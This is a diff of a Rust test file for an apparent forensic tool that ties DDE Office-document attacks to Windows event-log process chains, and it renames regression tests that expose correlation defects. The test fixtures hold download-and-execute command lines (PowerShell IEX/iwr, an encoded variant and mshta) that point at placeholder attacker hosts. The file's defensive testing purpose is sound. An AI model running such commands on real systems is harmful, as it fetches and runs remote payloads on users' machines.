@@ -1,325 +1,7 @@
-//! Correlation on hand-made rows: joins by GUID, by PID within one log, by time window; the
-//! same process seen by two logs; settings explained or not; verdicts.
+//! Regressions from the review of the correlation: each test is a case that went wrong (its
+//! comment says how, and where the code was then) and asserts what a T2 should get instead.
 
-use super::model::{Stage, Verdict};
 use super::*;
-use crate::detect::{Event, EventFields};
-use crate::profile::{Confidence, Severity};
-use crate::time::Timestamp;
-
-const T0: i64 = 1_714_985_980_000_000; // 2024-05-06T08:59:40Z
-
-fn at(seconds: i64) -> Timestamp {
-    Timestamp::from_unix_micros(T0 + seconds * 1_000_000).unwrap_or(Timestamp::UNIX_EPOCH)
-}
-
-fn row(
-    seconds: i64,
-    data_type: &'static str,
-    severity: Severity,
-    path: &str,
-    fields: EventFields,
-) -> Event {
-    let mut event = Event::new(
-        "T1559.002",
-        severity,
-        data_type,
-        format!("{data_type} at {seconds}"),
-        (at(seconds), "Recorded Time"),
-        "ev",
-        path,
-    );
-    event.fields = fields;
-    event.fields.computer_name = Some("wks-1.corp.example".to_owned());
-    event.user = Some(r"CORP\dave".to_owned());
-    event
-}
-
-const SYSMON: &str = "C/Windows/System32/winevt/Logs/Sysmon.evtx";
-const SECURITY: &str = "C/Windows/System32/winevt/Logs/Security.evtx";
-
-fn start(
-    seconds: i64,
-    log: &str,
-    rule: Option<&str>,
-    image: &str,
-    pid: u64,
-    parent: (&str, u64),
-    guids: Option<(&str, &str)>,
-) -> Event {
-    let mut event = row(
-        seconds,
-        "ddesweep:eventlog:process_start",
-        if rule.is_some() {
-            Severity::High
-        } else {
-            Severity::Info
-        },
-        log,
-        EventFields {
-            image: Some(image.to_owned()),
-            command: Some(format!("{image} /c x")),
-            process_id: Some(pid),
-            parent_image: Some(parent.0.to_owned()),
-            parent_process_id: Some(parent.1),
-            process_guid: guids.map(|g| g.0.to_owned()),
-            parent_process_guid: guids.map(|g| g.1.to_owned()),
-            ..EventFields::default()
-        },
-    );
-    if let Some(rule) = rule {
-        event.rule_id = Some(rule.to_owned());
-    }
-    event
-}
-
-fn document(path: &str) -> Event {
-    let mut event = Event::new(
-        "T1559.002",
-        Severity::Critical,
-        "ddesweep:document:dde_field",
-        "DDEAUTO".to_owned(),
-        (at(-3600), "Content Modification Time"),
-        "ev",
-        path,
-    );
-    event.fields.sha256 = Some("ab".repeat(32));
-    event.fields.command =
-        Some("cmd /c powershell IEX(iwr 'http://remit-portal.example/a.ps1')".to_owned());
-    event
-}
-
-fn analyse_rows(mut events: Vec<Event>) -> (Vec<Event>, model::Report) {
-    events.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
-    let profile = crate::profile::load("default").unwrap_or_else(|e| panic!("{e}"));
-    let facts = [EvidenceFacts {
-        label: "ev".to_owned(),
-        ..EvidenceFacts::default()
-    }];
-    let report = analyse(&mut events, &facts, &profile);
-    (events, report)
-}
-
-#[test]
-fn security_children_join_by_pid_in_their_log_and_merge_with_sysmon() {
-    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
-    let events = vec![
-        document("C/Users/dave/Downloads/Remit.docx"),
-        {
-            let mut open = start(
-                0,
-                SYSMON,
-                None,
-                word,
-                4412,
-                ("OUTLOOK.EXE", 3880),
-                Some(("{W}", "{O}")),
-            );
-            open.data_type = "ddesweep:eventlog:office_document_open";
-            open.fields.document = Some(r"C:\Users\dave\Downloads\Remit.docx".to_owned());
-            open
-        },
-        start(
-            4,
-            SYSMON,
-            Some("ddesweep.eventlog.office_child"),
-            r"C:\Windows\System32\cmd.exe",
-            5120,
-            (word, 4412),
-            Some(("{C}", "{W}")),
-        ),
-        start(
-            4,
-            SECURITY,
-            Some("ddesweep.eventlog.office_child"),
-            r"C:\Windows\System32\cmd.exe",
-            5120,
-            (word, 4412),
-            None,
-        ),
-        // The 4688 child of cmd: joined by PID in the Security log.
-        start(
-            5,
-            SECURITY,
-            Some("ddesweep.eventlog.office_descendant"),
-            r"C:\Windows\System32\powershell.exe",
-            6032,
-            (r"C:\Windows\System32\cmd.exe", 5120),
-            None,
-        ),
-        // A later process reusing PID 5120 in another log does not join.
-        start(
-            900,
-            SYSMON,
-            None,
-            r"C:\Windows\System32\notepad.exe",
-            7000,
-            ("cmd.exe", 5120),
-            Some(("{N}", "{X}")),
-        ),
-    ];
-    let (events, report) = analyse_rows(events);
-    assert_eq!(report.hosts.len(), 1);
-    let host = &report.hosts[0];
-    assert_eq!(host.host, "WKS-1");
-    assert_eq!(host.verdict, Verdict::Escalate);
-    assert_eq!(host.incidents.len(), 1, "{:#?}", host.incidents);
-    let incident = &host.incidents[0];
-    assert_eq!(incident.id, "WKS-1-1");
-    assert_eq!(incident.confidence, Confidence::High);
-    let stages: Vec<(Stage, &str)> = incident
-        .rows
-        .iter()
-        .map(|r| (r.stage, r.data_type.as_str()))
-        .collect();
-    assert_eq!(
-        stages,
-        vec![
-            (Stage::Document, "ddesweep:document:dde_field"),
-            (Stage::Opened, "ddesweep:eventlog:office_document_open"),
-            (Stage::Execution, "ddesweep:eventlog:process_start"),
-            (Stage::Execution, "ddesweep:eventlog:process_start"),
-            (Stage::Descendant, "ddesweep:eventlog:process_start"),
-        ]
-    );
-    // One cmd.exe among the Office children (two logs, one process).
-    assert_eq!(host.playbook.office_children.len(), 1);
-    assert_eq!(
-        host.playbook.office_children[0].process_guid.as_deref(),
-        Some("{C}")
-    );
-    let notepad = events
-        .iter()
-        .find(|e| e.fields.image.as_deref() == Some(r"C:\Windows\System32\notepad.exe"));
-    assert_eq!(notepad.and_then(|e| e.incident.as_deref()), None);
-    assert!(
-        events
-            .iter()
-            .filter(|e| e.incident.is_some())
-            .all(|e| e.tags.iter().any(|t| t == ESCALATE_TAG))
-    );
-}
-
-#[test]
-fn a_child_without_identity_joins_the_document_opened_just_before() {
-    let excel = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
-    let mut mru = row(
-        0,
-        "ddesweep:registry:office_mru",
-        Severity::Info,
-        "C/Users/dave/NTUSER.DAT",
-        EventFields {
-            document: Some(r"C:\Users\dave\Downloads\Remit.docx".to_owned()),
-            ..EventFields::default()
-        },
-    );
-    mru.fields.computer_name = None;
-    let events = vec![
-        document("C/Users/dave/Downloads/Remit.docx"),
-        mru,
-        start(
-            60,
-            SECURITY,
-            Some("ddesweep.eventlog.office_child"),
-            r"C:\Windows\System32\cmd.exe",
-            5120,
-            (excel, 4000),
-            None,
-        ),
-        // Outside the window: its own incident, no document.
-        start(
-            7200,
-            SECURITY,
-            Some("ddesweep.eventlog.office_child"),
-            r"C:\Windows\System32\mshta.exe",
-            5200,
-            (excel, 4100),
-            None,
-        ),
-    ];
-    let (_, report) = analyse_rows(events);
-    let host = &report.hosts[0];
-    let titles: Vec<(&str, Confidence)> = host
-        .incidents
-        .iter()
-        .map(|i| (i.title.as_str(), i.confidence))
-        .collect();
-    assert_eq!(
-        titles,
-        vec![
-            (
-                "Remit.docx (unknown): EXCEL.EXE started cmd.exe",
-                Confidence::Medium
-            ),
-            (
-                "EXCEL.EXE started mshta.exe (no DDE document identified)",
-                Confidence::Medium
-            ),
-        ]
-    );
-}
-
-#[test]
-fn settings_before_an_incident_are_explained_and_others_escalate() {
-    let setting = |seconds: i64| {
-        let mut event = row(
-            seconds,
-            "ddesweep:eventlog:registry_change",
-            Severity::High,
-            SYSMON,
-            EventFields {
-                registry_key: Some(
-                    r"HKU\S-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE".to_owned(),
-                ),
-                value: Some("DWORD (0x00000001)".to_owned()),
-                ..EventFields::default()
-            },
-        );
-        event.rule_id = Some("ddesweep.eventlog.word_allow_dde".to_owned());
-        event
-    };
-    let word = "WINWORD.EXE";
-    // Only a setting: unexplained, escalate.
-    let (_, report) = analyse_rows(vec![setting(0)]);
-    assert_eq!(report.hosts[0].verdict, Verdict::Escalate);
-    assert!(
-        report.hosts[0].reasons[0]
-            .text
-            .starts_with("DDE-enabling setting changed with nothing to explain it")
-    );
-    assert!(!report.hosts[0].containment.settings_to_revert[0].explained);
-    // The same setting two minutes before an Office child: explained by it.
-    let (_, report) = analyse_rows(vec![
-        setting(0),
-        start(
-            120,
-            SYSMON,
-            Some("ddesweep.eventlog.office_child"),
-            "cmd.exe",
-            1,
-            (word, 2),
-            Some(("{C}", "{W}")),
-        ),
-    ]);
-    let host = &report.hosts[0];
-    assert!(host.containment.settings_to_revert[0].explained);
-    assert_eq!(host.incidents[0].rows[0].stage, Stage::EnablingSetting);
-    // A dormant document alone: investigate, low confidence, not escalated.
-    let (events, report) = analyse_rows(vec![document("C/Users/carol/Documents/Quote.docx")]);
-    let host = &report.hosts[0];
-    assert_eq!(host.verdict, Verdict::Investigate);
-    assert_eq!(host.incidents[0].confidence, Confidence::Low);
-    assert!(!host.incidents[0].escalate);
-    assert_eq!(events[0].incident.as_deref(), Some("UNATTRIBUTED-ev-1"));
-    assert!(!events[0].tags.iter().any(|t| t == ESCALATE_TAG));
-    // Nothing at all: no evidence.
-    let (_, report) = analyse_rows(vec![]);
-    assert!(report.hosts.is_empty());
-}
-
-// ---------------------------------------------------------------------------------------------
-// Review (review-correlate branch): failing tests that show defects. Each names the defect.
-// ---------------------------------------------------------------------------------------------
 
 const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
 
@@ -369,7 +51,7 @@ fn incident_of_doc<'a>(events: &'a [Event], path: &str) -> Option<&'a str> {
 /// day apart) become one tree, so the second document's child is filed under the first
 /// document's incident (high confidence).
 #[test]
-fn review_pid_reuse_merges_two_word_processes_of_one_log() {
+fn pid_reuse_merges_two_word_processes_of_one_log() {
     let events = vec![
         doc_with("C/Users/dave/Downloads/A.docx", "aa"),
         doc_with("C/Users/dave/Downloads/B.docx", "bb"),
@@ -414,7 +96,7 @@ fn review_pid_reuse_merges_two_word_processes_of_one_log() {
 /// processes.rs:378-396: a root whose parent GUID is not the tree's falls through to the PID
 /// test: two Sysmon-known Word processes (distinct GUIDs) with a reused PID merge.
 #[test]
-fn review_distinct_parent_guids_still_merge_by_pid() {
+fn distinct_parent_guids_still_merge_by_pid() {
     let events = vec![
         doc_with("C/Users/dave/Downloads/A.docx", "aa"),
         doc_with("C/Users/dave/Downloads/B.docx", "bb"),
@@ -468,7 +150,7 @@ fn review_distinct_parent_guids_still_merge_by_pid() {
 /// is entered with start i64::MIN): an unrelated process a week later whose parent reused the
 /// PID becomes a "descendant" of the DDE chain (and its activity, IOCs, containment follow).
 #[test]
-fn review_pid_joins_have_no_lifetime_bound() {
+fn pid_joins_have_no_lifetime_bound() {
     let events = vec![
         start(
             10,
@@ -517,7 +199,7 @@ fn review_pid_joins_have_no_lifetime_bound() {
 /// chains.rs:99-107: the command-line join is a substring test on file names, first document
 /// (by SHA-256 order) wins: `report.doc` "matches" a command line naming `report.docx`.
 #[test]
-fn review_command_line_join_matches_a_name_inside_another() {
+fn command_line_join_matches_a_name_inside_another() {
     let mut child = start(
         10,
         SYSMON,
@@ -545,7 +227,7 @@ fn review_command_line_join_matches_a_name_inside_another() {
 /// chains.rs:89-97 with documents.rs:111-120: the "identity" join takes the first of several
 /// documents that only share the file name (score 1) and reports it with high confidence.
 #[test]
-fn review_identity_join_on_an_ambiguous_file_name_is_high_confidence() {
+fn identity_join_on_an_ambiguous_file_name_is_high_confidence() {
     let events = vec![
         doc_with("C/Users/dave/Desktop/old/invoice.docx", "aa"),
         doc_with("C/Users/dave/Downloads/invoice.docx", "bb"),
@@ -591,7 +273,7 @@ fn allow_dde(seconds: i64) -> Event {
 /// by the user opening a (local, never-run) DDE document is "explained" by that investigate-only
 /// incident: more evidence, lower verdict.
 #[test]
-fn review_setting_explained_by_a_non_escalating_incident_downgrades_the_host() {
+fn setting_explained_by_a_non_escalating_incident_downgrades_the_host() {
     let mut mru = row(
         3600,
         "ddesweep:registry:office_mru",
@@ -625,7 +307,7 @@ fn review_setting_explained_by_a_non_escalating_incident_downgrades_the_host() {
 /// chains.rs:235-245: a Word AllowDDE change is "explained" by whatever chain begins next, even
 /// an Excel one that Word's setting cannot have enabled.
 #[test]
-fn review_word_setting_explained_by_an_excel_incident() {
+fn word_setting_explained_by_an_excel_incident() {
     let excel = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
     let (_, report) = analyse_rows(vec![
         allow_dde(0),
@@ -645,7 +327,7 @@ fn review_word_setting_explained_by_an_excel_incident() {
 /// profiles/default.toml:416-418: the Equation Editor kill-bit removal (critical) is not an
 /// enabling setting for correlation: alone it gives "investigate", is never listed to revert.
 #[test]
-fn review_kill_bit_removal_is_not_an_enabling_setting() {
+fn kill_bit_removal_is_not_an_enabling_setting() {
     let mut kill = row(
         0,
         "ddesweep:eventlog:registry_change",
@@ -667,7 +349,7 @@ fn review_kill_bit_removal_is_not_an_enabling_setting() {
 /// rows.rs:69-74, containment.rs:146-183, chains.rs:64-79: users compare by account name only,
 /// so the local `WKS-1\admin` and the domain `CORP\admin` become one account (one SID) to reset.
 #[test]
-fn review_local_and_domain_accounts_of_one_name_merge() {
+fn local_and_domain_accounts_of_one_name_merge() {
     let mut a = start(
         10,
         SYSMON,
@@ -702,7 +384,7 @@ fn review_local_and_domain_accounts_of_one_name_merge() {
 /// hosts.rs:130-146: incident ids of unattributed evidence use only the file name: two
 /// evidence items `case1/disk.E01` and `case2/disk.E01` both number `UNATTRIBUTED-disk_E01-1`.
 #[test]
-fn review_unattributed_incident_ids_collide_across_evidence() {
+fn unattributed_incident_ids_collide_across_evidence() {
     let mut one = doc_with("C/Users/a/x.docx", "aa");
     one.evidence = "case1/disk.E01".to_owned();
     let mut two = doc_with("C/Users/b/y.docx", "bb");
@@ -730,7 +412,7 @@ fn review_unattributed_incident_ids_collide_across_evidence() {
 /// iocs.rs:39-46: `-ec` (the alias the doc comment names, and PowerShell accepts) is not a
 /// prefix of `encodedcommand`, so its URLs never become indicators.
 #[test]
-fn review_ec_alias_is_not_decoded() {
+fn ec_alias_is_not_decoded() {
     use base64::Engine as _;
     let script: Vec<u8> = "iwr http://198.51.100.9/x.ps1|iex"
         .encode_utf16()
@@ -743,87 +425,8 @@ fn review_ec_alias_is_not_decoded() {
     );
 }
 
-/// Cost probe (run with `--ignored --nocapture`): `n` Office processes with one flagged child
-/// each, among `filler` unrelated rows. processes.rs:446-484 scans every host row per tree (and
-/// again per fixed-point round), verdict.rs:429 and chains.rs:230 scan every chain per row.
 #[test]
-#[ignore]
-fn review_cost_probe() {
-    for (n, filler) in [(500usize, 20_000usize), (1_000, 40_000), (2_000, 80_000)] {
-        let mut events = Vec::new();
-        for k in 0..n {
-            let pid = 10_000 + k as u64;
-            events.push(start(
-                k as i64 * 60,
-                SECURITY,
-                Some("ddesweep.eventlog.office_child"),
-                r"C:\Windows\System32\cmd.exe",
-                pid + 100_000,
-                (WORD, pid),
-                None,
-            ));
-        }
-        for k in 0..filler {
-            events.push(start(
-                k as i64,
-                SECURITY,
-                None,
-                r"C:\Windows\System32\svchost.exe",
-                900_000 + k as u64,
-                (r"C:\Windows\services.exe", 700),
-                None,
-            ));
-        }
-        let began = std::time::Instant::now();
-        let (_, report) = analyse_rows(events);
-        eprintln!(
-            "{n} trees, {filler} rows: {:?} ({} incidents)",
-            began.elapsed(),
-            report.summary.incidents
-        );
-    }
-}
-
-/// Cost probe for documents (run with `--ignored --nocapture`): `n` DDE documents and `n`
-/// MRU traces. documents.rs:198 (`matching` re-normalises every path of every document for
-/// every trace), containment.rs:92 (`files.iter().any` per path).
-#[test]
-#[ignore]
-fn review_cost_probe_documents() {
-    for n in [1_000usize, 2_000, 4_000] {
-        let mut events = Vec::new();
-        for k in 0..n {
-            events.push(doc_with(
-                &format!("C/Users/dave/Downloads/d{k}.docx"),
-                &format!("{:02x}", k % 256),
-            ));
-            events.last_mut().unwrap().fields.sha256 = Some(format!("{k:064x}"));
-            events.push(row(
-                k as i64,
-                "ddesweep:registry:office_mru",
-                Severity::Info,
-                "C/Users/dave/NTUSER.DAT",
-                EventFields {
-                    document: Some(format!(r"C:\Users\dave\Downloads\d{k}.docx")),
-                    ..EventFields::default()
-                },
-            ));
-        }
-        let began = std::time::Instant::now();
-        let (_, report) = analyse_rows(events);
-        eprintln!(
-            "{n} documents: {:?} ({} incidents)",
-            began.elapsed(),
-            report.summary.incidents
-        );
-    }
-}
-
-/// chains.rs:108-138: when the Office process's own start names a document that is not a DDE
-/// document, the identity is known, yet the time-window fallback files its child under a DDE
-/// document opened by another application (no check of the Office image either).
-#[test]
-fn review_time_window_overrides_a_known_non_dde_identity() {
+fn time_window_overrides_a_known_non_dde_identity() {
     let mut mru = row(
         -60,
         "ddesweep:registry:office_mru",
@@ -868,7 +471,7 @@ fn review_time_window_overrides_a_known_non_dde_identity() {
 /// playbook.rs:316-344: one process seen by Sysmon 1 and Security 4688 counts twice in the
 /// per-day activity (the office_children list dedupes it, the baseline does not).
 #[test]
-fn review_per_day_counts_one_process_twice() {
+fn per_day_counts_one_process_twice() {
     let (_, report) = analyse_rows(vec![
         start(
             4,
@@ -898,7 +501,7 @@ fn review_per_day_counts_one_process_twice() {
 /// becomes a domain to block: the checklist says to block the company's own mail service
 /// (`office365.com`, `sharepoint.com`, `outlook.com` are not in `ioc_ignore_domains`).
 #[test]
-fn review_block_list_includes_the_mail_service_from_motw() {
+fn block_list_includes_the_mail_service_from_motw() {
     let path = "C/Users/dave/Downloads/Remit.docx";
     let mut motw = row(
         -3500,
@@ -927,7 +530,7 @@ fn review_block_list_includes_the_mail_service_from_motw() {
 /// chains.rs:256-299: a 5-character document name is a needle (`n.len() >= 5` with a dot), so
 /// any carved string holding it inside a longer name joins the incident (and gets `escalate`).
 #[test]
-fn review_short_document_names_join_unrelated_memory_strings() {
+fn short_document_names_join_unrelated_memory_strings() {
     let mut carved = row(
         100,
         "ddesweep:memory:string",
@@ -952,7 +555,7 @@ fn review_short_document_names_join_unrelated_memory_strings() {
 /// (markdown.rs:142-147, report.md "What happened"): a bare payload URL stays a bare URL, which
 /// GitHub/GitLab (extended autolinks) render as a clickable link to the attacker's server.
 #[test]
-fn review_markdown_prose_leaves_payload_urls_clickable() {
+fn markdown_prose_leaves_payload_urls_clickable() {
     let text = crate::output::report::escape::md_text(
         "DDE link in x.xlsx runs: cmd /c mshta http://198.51.100.23/pa.hta or www.evil.example/x",
     );
